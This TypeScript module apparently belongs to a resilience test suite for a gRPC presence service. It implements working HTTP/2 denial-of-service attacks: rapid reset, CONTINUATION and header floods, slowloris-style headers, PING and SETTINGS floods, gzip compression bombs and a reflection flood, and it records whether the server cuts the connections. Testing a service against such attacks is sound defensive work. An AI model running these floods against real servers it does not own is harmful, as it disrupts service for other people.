import { connect, constants } from "node:http2";
import { gzipSync } from "node:zlib";
import { create, toBinary } from "@bufbuild/protobuf";
import { ServerReflectionRequestSchema } from "../../gen/grpc/reflection/v1/reflection_pb.js";
import { framed, type Http2Call, Http2Calls } from "../support/http2_calls.js";
import { type Attack, type HostileAttack, type Outcome, within } from "./attack.js";
import { CALL_ATTACKS } from "./call_attacks.js";
import { callHeaders, FLAG, FRAME, frame, headerBlock, RawConnection, resets } from "./raw_connection.js";

const { END_HEADERS, END_STREAM } = FLAG;

/** Over so many connections at a time. */
const CONNECTIONS = 4;

async function overSome(
  address: string,
  sent: string,
  attack: (connection: RawConnection) => Promise<void>,
  { connections: count = CONNECTIONS, answersPings = true } = {},
): Promise<Outcome> {
  const connections = await Promise.all(
    Array.from({ length: count }, async () => {
      const connection = await RawConnection.open(address, { answersPings });
      await attack(connection);
      return connection;
    }),
  );
  // What it sent last may still be on its way; a connection that is to live is not waited for longer than this.
  await within(
    1000,
    Promise.all(connections.map((connection) => connection.closed())).then(() => {}),
  );
  return {
    connections: count,
    closed: connections.filter(({ isClosed }) => isClosed).length,
    sent,
    end: () => {
      for (const connection of connections) connection.destroy();
    },
  };
}

async function repeat(connection: RawConnection, times: number, next: (index: number) => Uint8Array): Promise<void> {
  for (let i = 0; i < times; i++) if (!(await connection.push(next(i)))) return;
}

const rapidReset: Attack = (address) =>
  overSome(address, "20,000 streams each, reset as soon as they were opened", async (connection) => {
    connection.greet();
    await repeat(connection, 200, (round) => resets(100, round * 100));
  });

const headerFlood: Attack = (address) => {
  const fields = Object.fromEntries(Array.from({ length: 1000 }, (_, i) => [`x-${i}`, "v"]));
  const head = Buffer.concat([callHeaders("GetState"), headerBlock(fields)]);
  return overSome(address, "2,000 calls each with 1,000 header fields", async (connection) => {
    connection.greet();
    await repeat(connection, 2000, (i) => frame(FRAME.HEADERS, END_HEADERS | END_STREAM, i * 2 + 1, head));
  });
};

const giantMetadata: Attack = (address) => {
  const value = "x".repeat(15_000);
  const parts = Array.from({ length: 20 }, (_, i) => headerBlock({ [`x-big-${i}`]: value }));
  return overSome(address, "50 calls each with 300 KB of metadata", async (connection) => {
    connection.greet();
    await repeat(connection, 50, (i) => {
      const id = i * 2 + 1;
      const more = parts.map((part, at) =>
        frame(FRAME.CONTINUATION, at === parts.length - 1 ? END_HEADERS : 0, id, part),
      );
      return Buffer.concat([frame(FRAME.HEADERS, END_STREAM, id, callHeaders("GetState")), ...more]);
    });
  });
};

const endlessContinuation: Attack = (address) => {
  const part = headerBlock({ "x-more": "y".repeat(16_000) });
  return overSome(address, "up to 160 MB of CONTINUATION each", async (connection) => {
    connection.greet().send(frame(FRAME.HEADERS, 0, 1, callHeaders("GetState")));
    await repeat(connection, 10_000, () => frame(FRAME.CONTINUATION, 0, 1, part));
  });
};

/** A PING may not come between the frames of a header block, so this client cannot answer one either. */
const slowHeaders: Attack = (address) =>
  overSome(
    address,
    "a header block that goes on by a byte now and then",
    async (connection) => {
      const head = callHeaders("GetState");
      connection.greet().send(frame(FRAME.HEADERS, 0, 1, head.subarray(0, 1)));
      for (let at = 1; at < head.length && !connection.isClosed; at++) {
        await Promise.race([connection.closed(), new Promise((resolve) => setTimeout(resolve, 100))]);
        connection.send(frame(FRAME.CONTINUATION, 0, 1, head.subarray(at, at + 1)));
      }
    },
    { answersPings: false },
  );

const noPreface: Attack = (address) =>
  overSome(
    address,
    "half a preface, and then nothing",
    async (connection) => {
      connection.send(Buffer.from("PRI * HTTP/2.0\r\n"));
      await connection.closed();
    },
    { connections: 50, answersPings: false },
  );

const tinyWindows: Attack = (address) => {
  // SETTINGS_INITIAL_WINDOW_SIZE 1.
  const oneByte = Buffer.from([0, 4, 0, 0, 0, 1]);
  // Channel { type: MESSAGE, name: "crowd" }.
  const request = Buffer.from([10, 9, 8, 1, 18, 5, ...Buffer.from("crowd")]);
  const body = Buffer.concat([Buffer.from([0, 0, 0, 0, request.length]), request]);
  const subscribe = (i: number): Buffer => {
    const head = callHeaders("SubscribePresence", { "x-user-id": `mallory ${i}` });
    return Buffer.concat([
      frame(FRAME.HEADERS, END_HEADERS, i * 2 + 1, head),
      frame(FRAME.DATA, END_STREAM, i * 2 + 1, body),
    ]);
  };
  return overSome(address, "500 subscribers each that take one byte", async (connection) => {
    let sent = 0;
    const allSent = new Promise<void>((resolve) => {
      connection.onRead = () => {
        for (; sent < Math.min(500, connection.maxStreams); sent++) connection.send(subscribe(sent));
        if (sent === 500) resolve();
      };
    });
    connection.greet(oneByte);
    await within(5000, allSent);
  });
};

const pingFlood: Attack = (address) => {
  const pings = Buffer.concat(Array.from({ length: 100 }, () => frame(FRAME.PING, 0, 0, Buffer.alloc(8))));
  return overSome(address, "100,000 PINGs each, whose answers nobody reads", async (connection) => {
    connection.greet().stopReading();
    await within(
      5000,
      repeat(connection, 1000, () => pings),
    );
  });
};

const settingsFlood: Attack = (address) => {
  const settings = Buffer.concat(
    Array.from({ length: 100 }, () => frame(FRAME.SETTINGS, 0, 0, Buffer.from([0, 4, 0, 0, 255, 255]))),
  );
  return overSome(address, "100,000 SETTINGS each, whose answers nobody reads", async (connection) => {
    connection.greet().stopReading();
    await within(
      5000,
      repeat(connection, 1000, () => settings),
    );
  });
};

/** Of each message all but its end. */
const unfinishedMessages: Attack = async (address) => {
  const body = Buffer.alloc(900_000);
  body.writeUInt32BE(1_000_000, 1);
  const sessions = Array.from({ length: CONNECTIONS }, () => connect(`http://${address}`));
  let closed = 0;
  for (const session of sessions) {
    session.on("error", () => {});
    session.once("close", () => closed++);
  }
  const sent = sessions.flatMap((session) =>
    Array.from({ length: 100 }, () => {
      const stream = session.request(headersOf("SetState"));
      stream.on("error", () => {});
      stream.resume();
      return new Promise<void>((resolve) => {
        stream.once("close", () => resolve());
        stream.write(body, () => resolve());
      });
    }),
  );
  await within(
    10_000,
    Promise.all(sent).then(() => {}),
  );
  return {
    connections: CONNECTIONS,
    closed,
    sent: "100 messages each of which 900 KB of 1 MB come",
    end: () => {
      for (const session of sessions) session.destroy();
    },
  };
};

/** 100 MB in 100 KB. */
const compressedBomb: Attack = async (address) => {
  const bomb = gzipSync(Buffer.alloc(100_000_000));
  const prefix = Buffer.from([1, 0, 0, 0, 0]);
  prefix.writeUInt32BE(bomb.length, 1);
  const session = connect(`http://${address}`);
  session.on("error", () => {});
  const statuses = new Set<string>();
  await Promise.all(
    Array.from({ length: 100 }, () => {
      const stream = session.request({ ...headersOf("BatchSetState"), "grpc-encoding": "gzip" });
      stream.on("error", () => {});
      const note = (headers: Record<string, unknown>): void => {
        if (headers["grpc-status"] !== undefined) statuses.add(String(headers["grpc-status"]));
      };
      stream.on("response", note).on("trailers", note);
      stream.resume();
      stream.end(Buffer.concat([prefix, bomb]));
      return new Promise<void>((resolve) => stream.once("close", () => resolve()));
    }),
  );
  return {
    connections: 1,
    closed: session.destroyed ? 1 : 0,
    sent: `100 messages of ${bomb.length} bytes that hold 100 MB each; answered with status ${[...statuses].join(", ")}`,
    end: () => session.destroy(),
  };
};

/** Asks for the largest files of the contract again and again, on as many streams as there may be, and reads them. */
const reflectionFlood: Attack = async (address) => {
  const request = toBinary(
    ServerReflectionRequestSchema,
    create(ServerReflectionRequestSchema, {
      messageRequest: { case: "fileByFilename", value: "presence/v1/presence_service.proto" },
    }),
  );
  const path = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";
  const connections = Array.from(
    { length: CONNECTIONS },
    () => new Http2Calls(address, { initialWindowSize: 1 << 24 }),
  );
  const until = performance.now() + 3000;
  let responses = 0;
  const flood = async (call: Http2Call): Promise<void> => {
    for (let i = 0; i < 8; i++) call.stream.write(framed(request));
    for (; performance.now() < until; responses++) {
      await call.messages.next();
      call.stream.write(framed(request));
    }
  };
  const calls = connections.flatMap((connection) => {
    connection.session.once("connect", () => connection.session.setLocalWindowSize(1 << 26));
    return Array.from({ length: 10 }, () => connection.begin(path));
  });
  await Promise.all(calls.map((call) => flood(call).catch(() => {})));
  return {
    connections: CONNECTIONS,
    closed: connections.filter(({ session }) => session.destroyed).length,
    sent: `10 reflection streams each, ${responses} responses of 80 KB read in 3 s`,
    end: () => {
      for (const connection of connections) connection.close();
    },
  };
};

function headersOf(method: string): Record<string, string> {
  return {
    [constants.HTTP2_HEADER_METHOD]: "POST",
    [constants.HTTP2_HEADER_PATH]: `/presence.v1.PresenceService/${method}`,
    [constants.HTTP2_HEADER_CONTENT_TYPE]: "application/grpc",
    te: "trailers",
  };
}

/** `ROLLCALL_IDLE` connections, 1000 unless told otherwise, that greet and answer pings and do nothing else. */
const idleConnections: Attack = (address) => {
  const count = Number(process.env.ROLLCALL_IDLE ?? 1000);
  return overSome(address, `${count} connections that do nothing`, async (connection) => void connection.greet(), {
    connections: count,
  });
};

/** All attacks by name. */
export const ATTACKS: Readonly<Record<string, HostileAttack>> = {
  "rapid reset": { attack: rapidReset, isCut: true },
  "header flood": { attack: headerFlood },
  "giant metadata": { attack: giantMetadata },
  "endless CONTINUATION": { attack: endlessContinuation, isCut: true },
  "slow headers": { attack: slowHeaders, isCut: true },
  "no preface": { attack: noPreface, isCut: true },
  "tiny windows": { attack: tinyWindows },
  "ping flood": { attack: pingFlood },
  "SETTINGS flood": { attack: settingsFlood },
  "unfinished messages": { attack: unfinishedMessages },
  "compressed bombs": { attack: compressedBomb },
  "reflection flood": { attack: reflectionFlood, maxMib: 32 },
  "idle connections": { attack: idleConnections },
  ...CALL_ATTACKS,
};
